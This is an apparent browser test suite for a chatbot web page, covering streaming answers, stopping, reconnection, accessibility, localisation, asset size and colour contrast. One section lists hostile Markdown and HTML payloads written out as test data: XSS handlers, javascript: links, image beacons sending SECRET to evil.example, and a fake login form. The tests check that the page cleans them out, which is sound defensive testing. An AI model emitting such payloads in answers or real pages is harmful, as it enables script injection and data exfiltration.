/// <reference lib="dom" />
import { join } from 'node:path'
import type { Route, Browser, BrowserContextOptions, Page } from 'playwright-core'
import { afterAll, beforeAll, describe, expect, onTestFinished, test } from 'vitest'
import { assistant } from '../bots/assistant.ts'
import { guide } from '../bots/guide.ts'
import { AppError } from '../src/errors.ts'
import type { Model } from '../src/models/model.ts'
import { launchChromium, noChromium } from './chromium.ts'
import { openTab, PHONE, type OpenedTab } from './open-tab.ts'
import { failing, gated, hanging, scriptedModel, text } from './scripted-model.ts'
import { startTestApp, type TestApp, type TestAppOptions } from './test-app.ts'

if (noChromium) console.warn(`The chat page is not tested: ${noChromium}`)

const SCREENSHOTS = join(import.meta.dirname, 'screenshots')

const BOTS = {
  bot: { title: 'Tester', suggestions: ['How are you?'] },
  moreBots: [assistant, guide],
} satisfies TestAppOptions

let browser: Browser
let shared: TestApp
/** What answers as the first bot in the test that runs now. */
let current: Model = scriptedModel()

beforeAll(async () => {
  if (noChromium) return
  const model: Model = {
    id: 'scripted',
    stream: (request, options) => current.stream(request, options),
  }
  ;[browser, shared] = await Promise.all([
    launchChromium(),
    startTestApp({ ...BOTS, model, env: { MODEL_RETRIES: '0' } }),
  ])
})

afterAll(async () => {
  await browser?.close()
  await shared?.close()
})

/** The page in a browser that has never seen it, with `model` as its first bot. */
async function openPage(model: Model, context?: BrowserContextOptions): Promise<OpenedTab> {
  current = model
  return await openPageOf(shared, context)
}

async function openPageOf(app: TestApp, context: BrowserContextOptions = {}): Promise<OpenedTab> {
  const { page, problems } = await openTab(browser, {
    ...context,
    patienceMs: 20_000,
    mayRequest: (url) => new URL(url).host === new URL(app.url).host,
  })
  await page.exposeFunction('report', (problem: string) => problems.push(problem))
  await page.addInitScript(() => {
    addEventListener('securitypolicyviolation', ({ effectiveDirective, blockedURI }) => {
      const page = globalThis as unknown as { report(problem: string): void }
      page.report(`refused by ${effectiveDirective}: ${blockedURI}`)
    })
  })
  await page.goto(app.url)
  await page.locator('#intro, .message').first().waitFor()
  return { page, problems }
}

async function ask(page: Page, question: string): Promise<void> {
  await page.getByRole('textbox', { name: 'Message' }).fill(question)
  await page.keyboard.press('Enter')
}

/** Waits until the last answer is complete. */
async function answered(page: Page): Promise<void> {
  await page.getByRole('button', { name: 'Send' }).waitFor()
}

/** The conversation as it is seen; screen readers have a place of their own. */
function said(page: Page) {
  return page.locator('#scroller, #notice')
}

function lastAnswer(page: Page) {
  return page.locator('.answer').last().locator('.prose')
}

describe.skipIf(noChromium !== undefined)('the chat page', { timeout: 60_000 }, () => {
  test('shows an answer while it is written and tells screen readers each block once', async () => {
    const { step, open } = gated('First **paragraph**.\n\nSecond', ' one.')
    const { page, problems } = await openPage(scriptedModel(step))
    await ask(page, 'Hello')
    await said(page).getByText('Second', { exact: true }).waitFor()
    expect(await page.getByRole('log', { name: 'Messages' }).getAttribute('aria-live')).toBe('off')
    expect(await page.locator('#announcer p').allTextContents()).toEqual(['First paragraph.'])
    expect(await page.getByRole('button', { name: 'Stop answering' }).isVisible()).toBe(true)
    open()
    await answered(page)
    expect(await lastAnswer(page).innerHTML()).toBe(
      '<p>First <strong>paragraph</strong>.</p>\n<p>Second one.</p>\n',
    )
    expect(await page.locator('#announcer p').allTextContents()).toEqual(['First paragraph.', 'Second one.'])
    expect(problems).toEqual([])
  })

  test.each([
    { how: 'the button', stop: (page: Page) => page.getByRole('button', { name: 'Stop answering' }).click() },
    { how: 'Escape', stop: (page: Page) => page.keyboard.press('Escape') },
  ])('stops an answer with $how and keeps what was said', async ({ stop }) => {
    const { page } = await openPage(scriptedModel(hanging('Once upon', ' a time')))
    await ask(page, 'Tell me a story')
    await said(page).getByText('Once upon a time').waitFor()
    await stop(page)
    await said(page).getByText('Stopped.').waitFor()
    expect(await lastAnswer(page).innerText()).toBe('Once upon a time')
    await page.reload()
    await said(page).getByText('Stopped.').waitFor()
    expect(await page.locator('.message').count()).toBe(2)
    await ask(page, 'Another one')
    await said(page).getByText('Once upon a time').nth(1).waitFor()
    await stop(page)
    await said(page).getByText('Stopped.').nth(1).waitFor()
    await page.reload()
    await said(page).getByText('Stopped.').nth(1).waitFor()
  })

  test('goes on with the answer after a reload in its middle', async () => {
    const { step, open } = gated('The first half', ' and the second.')
    const { page } = await openPage(scriptedModel(step))
    await ask(page, 'Hello')
    await said(page).getByText('The first half').waitFor()
    await page.reload()
    await said(page).getByText('The first half').waitFor()
    open()
    await answered(page)
    expect(await page.locator('.said').allInnerTexts()).toEqual(['Hello'])
    expect(await lastAnswer(page).innerText()).toBe('The first half and the second.')
  })

  test('goes on where it was after the connection broke, and says so meanwhile', async () => {
    const { step, open } = gated('The first half', ' and the second.')
    const { page } = await openPage(scriptedModel(step))
    await ask(page, 'Hello')
    await said(page).getByText('The first half').waitFor()
    const resumed = page.waitForRequest(/\/api\/chat\/streams\//)
    shared.server.server.closeAllConnections()
    await said(page).getByText('Connection lost. Reconnecting…').waitFor()
    expect((await resumed).headers()['last-event-id']).toMatch(/^[0-9a-f-]{36}:\d+$/)
    open()
    await answered(page)
    expect(await lastAnswer(page).innerText()).toBe('The first half and the second.')
    expect(await page.locator('#notice').innerText()).toBe('')
  })

  test('asks once, however often the question has to be sent', async () => {
    const { step, open } = gated('The first half', ' and the second.')
    const model = scriptedModel(step)
    const { page } = await openPage(model)
    const loseTheAnswer = async (route: Route): Promise<void> => {
      const question = await fetch(route.request().url(), {
        method: 'POST',
        headers: { 'content-type': 'application/json' },
        body: route.request().postData(),
      })
      await question.body?.cancel()
      await route.abort('connectionreset')
    }
    await page.route('**/api/chat/query/stream', loseTheAnswer, { times: 2 })
    await ask(page, 'Hello')
    await said(page).getByText('The first half').waitFor()
    open()
    await answered(page)
    expect(await lastAnswer(page).innerText()).toBe('The first half and the second.')
    expect(model.requests.length).toBe(1)
  })

  test('copies a code block', async () => {
    const permissions = ['clipboard-read', 'clipboard-write']
    const { page } = await openPage(scriptedModel(text('```sh\nnpm start\n```')), { permissions })
    await ask(page, 'How?')
    await answered(page)
    await page.getByText('npm start').first().hover()
    await page.getByRole('button', { name: 'Copy' }).click()
    await page.getByRole('button', { name: 'Copied' }).waitFor()
    expect(await page.evaluate(() => navigator.clipboard.readText())).toBe('npm start\n')
  })

  test('shows the sentence of a full server and sends the same question again on request', async () => {
    const { step, open } = gated('Still', ' here.')
    const model = scriptedModel(step, text('Now it is your turn.'))
    const app = await startTestApp({ model, env: { MAX_RUNNING_TURNS: '1' } })
    onTestFinished(() => app.close())
    const { page } = await openPageOf(app)
    await ask(page, 'First')
    await said(page).getByText('Still').waitFor()
    const second = await openPageOf(app)
    await ask(second.page, 'Second')
    await second.page.getByRole('alert').getByText('answering as many people as it can').waitFor()
    open()
    await answered(page)
    await second.page.getByRole('button', { name: 'Try again' }).click()
    await said(second.page).getByText('Now it is your turn.').waitFor()
    expect(await second.page.locator('.message').count()).toBe(2)
    expect(model.requests.at(-1)?.messages).toEqual([{ role: 'user', text: 'Second' }])
  })

  test('shows what went wrong in the middle of an answer, also after a reload, and asks anew', async () => {
    const broken = failing(new AppError('model_stream_broken'), 'It begins')
    const { page } = await openPage(scriptedModel(broken, text('All of it.')))
    await ask(page, 'Hello')
    await said(page).getByText('The language model stopped in the middle of its answer.').waitFor()
    expect(await lastAnswer(page).innerText()).toBe('It begins')
    await page.reload()
    await page.getByRole('button', { name: 'Try again' }).click()
    await said(page).getByText('All of it.').waitFor()
    expect(await page.locator('.said').count()).toBe(1)
  })

  test('can be used with the keyboard alone', async () => {
    const model = scriptedModel(text('Fine.'), text('Bye.'))
    const { page } = await openPage(model)
    const focused = () =>
      page.evaluate(() => document.activeElement?.id || document.activeElement?.textContent)
    expect(await focused()).toBe('message')
    const order: (string | null | undefined)[] = []
    for (let step = 0; step < 6; step++) {
      await page.keyboard.press('Shift+Tab')
      order.push(await focused())
    }
    expect(order).toEqual(['How are you?', 'scroller', 'theme', 'new', 'bot', 'Skip to the message box'])
    await page.keyboard.press('Enter')
    expect(await focused()).toBe('message')
    await page.keyboard.press('Shift+Tab')
    await page.keyboard.press('Enter')
    await said(page).getByText('Fine.').waitFor()
    expect(await focused()).toBe('message')
    await page.keyboard.type('two')
    await page.keyboard.press('Shift+Enter')
    await page.keyboard.type('lines')
    await page.keyboard.press('Enter')
    await said(page).getByText('Bye.').waitFor()
    expect(model.requests.at(-1)?.messages.at(-1)).toEqual({ role: 'user', text: 'two\nlines' })
  })

  test('keeps one conversation for each bot and leaves it on request', async () => {
    const { page } = await openPage(scriptedModel(text('Hi.')))
    await ask(page, 'Hello')
    await said(page).getByText('Hi.').waitFor()
    await page.getByRole('combobox', { name: 'Bot' }).selectOption('Assistant')
    await page.getByRole('heading', { name: 'Assistant', level: 2 }).waitFor()
    expect(page.url()).toContain('?bot=assistant')
    await page.getByRole('combobox', { name: 'Bot' }).selectOption('Tester')
    await said(page).getByText('Hi.').waitFor()
    await page.getByRole('button', { name: 'New conversation' }).click()
    await page.getByRole('heading', { name: 'Tester', level: 2 }).waitFor()
    await page.reload()
    await page.getByRole('heading', { name: 'Tester', level: 2 }).waitFor()
    expect(await page.locator('.message').count()).toBe(0)
  })

  test('shows tools, sources and suggestions, and has them again after a reload', async () => {
    const { page, problems } = await openPage(scriptedModel())
    await page.getByRole('combobox', { name: 'Bot' }).selectOption('Assistant')
    await page.getByRole('button', { name: 'What is 15% of 80?' }).click()
    await said(page).getByText('Used calculate').waitFor()
    await answered(page)
    await page.getByRole('combobox', { name: 'Bot' }).selectOption('Botyard guide')
    await ask(page, 'How do I define a bot?')
    await page.getByRole('list', { name: 'Sources' }).waitFor()
    await answered(page)
    const before = await page.locator('#messages').innerHTML()
    expect(await page.locator('.suggestion').count()).toBeGreaterThan(0)
    await page.reload()
    await page.getByRole('list', { name: 'Sources' }).waitFor()
    await answered(page)
    expect(await page.locator('#messages').innerHTML()).toBe(before)
    expect(problems).toEqual([])
  })

  test('stays where the reader scrolled to, and follows again on request', async () => {
    const paragraphs = Array.from({ length: 60 }, (_, index) => `Paragraph ${index + 1}.`).join('\n\n')
    const { step, open } = gated(paragraphs, `\n\n${paragraphs}\n\nThe end.`)
    const { page } = await openPage(scriptedModel(step))
    await ask(page, 'Tell me')
    await said(page).getByText('Paragraph 60.').waitFor()
    const top = () => page.locator('#scroller').evaluate((element) => element.scrollTop)
    expect(await top()).toBeGreaterThan(500)
    await page.locator('#scroller').hover()
    await page.mouse.wheel(0, -800)
    await page.getByRole('button', { name: 'Jump to the latest message' }).waitFor()
    const read = await top()
    open()
    await answered(page)
    expect(await top()).toBe(read)
    await page.getByRole('button', { name: 'Jump to the latest message' }).click()
    expect(await said(page).getByText('The end.').isVisible()).toBe(true)
    expect(await top()).toBeGreaterThan(read)
  })

  test('speaks Russian to browsers that prefer it', async () => {
    const { page } = await openPage(scriptedModel(), { locale: 'ru-RU' })
    expect(await page.locator('html').getAttribute('lang')).toBe('ru')
    expect(await page.getByRole('textbox', { name: 'Сообщение' }).getAttribute('placeholder')).toBe(
      'Напишите сообщение…',
    )
  })

  test('costs less than 60 kB to open and nothing to open again', async () => {
    const page = await browser.newPage()
    onTestFinished(() => page.close())
    const sizes: Promise<number>[] = []
    page.on('requestfinished', (request) => {
      const size = request.sizes().then(({ responseBodySize }) => responseBodySize)
      if (!request.url().includes('/api/')) sizes.push(size)
    })
    await page.goto(shared.url, { waitUntil: 'networkidle' })
    const first = await Promise.all(sizes)
    console.log(`The chat page: ${first.length} files, ${first.reduce((sum, size) => sum + size, 0)} bytes`)
    expect(first.reduce((sum, size) => sum + size, 0)).toBeLessThan(60_000)
    const versioned = /assets\/([0-9a-f]{12})\//.exec(await page.content())?.[1]
    const asset = await fetch(`${shared.url}/assets/${versioned}/page/main.js`)
    expect(asset.headers.get('cache-control')).toBe('public, max-age=31536000, immutable')
    const again = await fetch(`${shared.url}/assets/older/page/main.js`, {
      headers: { 'if-none-match': asset.headers.get('etag') ?? '' },
    })
    expect([again.status, again.headers.get('cache-control')]).toEqual([304, 'no-cache'])
    expect((await fetch(`${shared.url}/assets/${versioned}/..%2fpage.ts`)).status).toBe(404)
  })
})

/** What models were seen to be made to say; `evil.example` stands for whoever wants to hear of it. */
const HOSTILE = [
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(2)>',
  '![x](https://evil.example/?q=SECRET)',
  '<img src="https://evil.example/pixel?q=SECRET">',
  '![ref][secret]\n\n[secret]: https://evil.example/ref?q=SECRET',
  '<form action=//evil.example><input name=password><button>Log in</button></form>',
  '[click](javascript:alert(3))',
  '<a href="data:text/html,<script>alert(4)</script>">data</a>',
  '<a href="jav&#x09;ascript:alert(5)">tab</a>',
  '<svg><script>alert(6)</script></svg><svg onload=alert(7)>',
  '<iframe src="https://evil.example"></iframe><iframe srcdoc="<script>alert(8)</script>"></iframe>',
  '<style>@import url(https://evil.example/style.css)</style>',
  '<p style="background:url(https://evil.example/bg);position:fixed;inset:0">over everything</p>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(9)>',
  '<video src="https://evil.example/video" autoplay></video><object data="https://evil.example"></object>',
  '<link rel="stylesheet" href="https://evil.example/link.css"><base href="https://evil.example/">',
  '<meta http-equiv="refresh" content="0;url=https://evil.example">',
  '<details open ontoggle=alert(10)>details</details>',
  '<a id="messages" name="composer" class="round" href="//evil.example/clobber">same name</a>',
  '```html\n<img src=x onerror=alert(11)>\n```',
  '[Your bank](https://evil.example/login)',
  'The end of it.',
]

const FORBIDDEN =
  'script, style, iframe, form, input, svg, math, object, embed, video, audio, link, meta, base, img:not([src$="/x"]), button:not(.copy), [style], [id], [name], [onerror], [onload], [ontoggle]'

describe.skipIf(noChromium !== undefined)('hostile Markdown in an answer', { timeout: 60_000 }, () => {
  test('asks nobody for anything, runs nothing and imitates nothing, in whatever pieces it comes', async () => {
    const whole = HOSTILE.join('\n\n')
    const model = scriptedModel(text(whole), text(...whole.split(/(?<=[\s\S]{7})/)))
    // Without the security policy of the page, so that the cleaning alone has to hold.
    const { page, problems } = await openPage(model, { bypassCSP: true })
    const forbidden = () =>
      page
        .locator('.prose')
        .locator(FORBIDDEN)
        .evaluateAll((found) => found.map((element) => element.outerHTML))
    for (const question of ['In one piece', 'In many pieces']) {
      await ask(page, question)
      await answered(page)
      await said(page).getByText('The end of it.').last().waitFor()
    }
    expect(await forbidden()).toEqual([])
    await page.reload({ waitUntil: 'networkidle' })
    await said(page).getByText('The end of it.').last().waitFor()
    expect(await forbidden()).toEqual([])
    expect(problems).toEqual([])
  })

  test('links say where they lead and take nothing along', async () => {
    const { page } = await openPage(scriptedModel(text(HOSTILE.join('\n\n'))))
    await ask(page, 'Hello')
    await answered(page)
    const links = await page
      .locator('.prose a[href]')
      .evaluateAll((found) =>
        found.map((link) => [
          link.getAttribute('href'),
          link.getAttribute('rel'),
          link.getAttribute('target'),
        ]),
      )
    expect(links.length).toBeGreaterThan(2)
    for (const [href, rel, target] of links) {
      expect(href).toMatch(/^https?:\/\/evil\.example\//)
      expect([rel, target]).toEqual(['noopener nofollow noreferrer', '_blank'])
    }
    const bank = page.getByRole('link', { name: 'Your bank' })
    expect(await bank.textContent()).toBe('Your bank evil.example')
  })
})

const SCREENS = [{ name: 'desktop', viewport: { width: 1280, height: 800 } }, PHONE] as const

const FORMATTED = `Here is **what a bot can say**, with a [link](https://example.com/docs) and \`code\`.

## Steps

1. Define the bot
   - instructions
   - tools
2. Start it

\`\`\`ts
export const greeter = defineBot({ name: 'greeter', instructions: 'You greet people by name, in one short sentence.' })
\`\`\`

| Command | What it does | Exit code |
|---|---|--:|
| \`npm start\` | starts the server | 0 |
| \`npm run check\` | formats, lints, tests | 1 |

> Quoted words stay quiet.`

describe.skipIf(noChromium !== undefined)('the look of the chat page', { timeout: 90_000 }, () => {
  for (const colorScheme of ['light', 'dark'] as const)
    for (const { name, ...screen } of SCREENS)
      test(`${name}, ${colorScheme}: never wider than the screen`, async () => {
        const model = scriptedModel(text(FORMATTED), failing(new AppError('model_stream_broken')))
        const { page } = await openPage(model, { ...screen, colorScheme, reducedMotion: 'reduce' })
        const shoot = (what: string) =>
          page.screenshot({ path: join(SCREENSHOTS, `${name}-${colorScheme}-${what}.png`) })
        await ask(page, 'What can you show me?')
        await answered(page)
        await shoot('formatted')
        await page.locator('#scroller').evaluate((element) => (element.scrollTop = 0))
        await shoot('formatted-top')
        await ask(page, 'And when something goes wrong?')
        await page.getByRole('alert').waitFor()
        await shoot('problem')
        expect(await page.evaluate(() => document.documentElement.scrollWidth)).toBe(screen.viewport.width)
        await page.getByRole('combobox').selectOption('Assistant')
        await page.getByRole('heading', { name: 'Assistant', level: 2 }).waitFor()
        await shoot('empty')
        await page.getByRole('button', { name: 'Tokyo' }).click()
        await said(page).getByText('Used current_time').first().waitFor()
        await answered(page)
        await shoot('tools')
        await page.getByRole('combobox').selectOption('Botyard guide')
        await ask(page, 'How do I define a bot?')
        await page.getByRole('list', { name: 'Sources' }).waitFor()
        await answered(page)
        await shoot('sources')
      })

  test.each(['light', 'dark'] as const)('%s colours contrast at least 4.5 to 1', async (colorScheme) => {
    const { page } = await openPage(scriptedModel(), { colorScheme })
    const ratios = await page.evaluate(measureContrast)
    for (const { pair, ratio } of ratios) expect(ratio, pair).toBeGreaterThan(4.5)
  })
})

/** Runs in the page: the contrast, as WCAG 2 defines it, of every ink on every paper it is used on. */
function measureContrast(): { pair: string; ratio: number }[] {
  const luminance = (name: string): number => {
    const probe = document.createElement('canvas').getContext('2d')
    const sample = document.body.appendChild(document.createElement('i'))
    sample.style.setProperty('color', `var(--${name})`)
    if (!probe) return 0
    probe.fillStyle = getComputedStyle(sample).color
    probe.fillRect(0, 0, 1, 1)
    const [red = 0, green = 0, blue = 0] = [...probe.getImageData(0, 0, 1, 1).data].map((value) =>
      value <= 10 ? value / 3294 : ((value / 255 + 0.055) / 1.055) ** 2.4,
    )
    return 0.2126 * red + 0.7152 * green + 0.0722 * blue
  }
  const used = {
    ink: ['paper', 'raised', 'sunken', 'said'],
    muted: ['paper', 'raised', 'sunken'],
    accent: ['paper'],
    'on-accent': ['accent'],
    problem: ['paper', 'problem-paper'],
  }
  return Object.entries(used).flatMap(([ink, papers]) =>
    papers.map((paper) => {
      const [light = 0, dark = 0] = [luminance(ink), luminance(paper)].toSorted((a, b) => b - a)
      return { pair: `${ink} on ${paper}`, ratio: (light + 0.05) / (dark + 0.05) }
    }),
  )
}
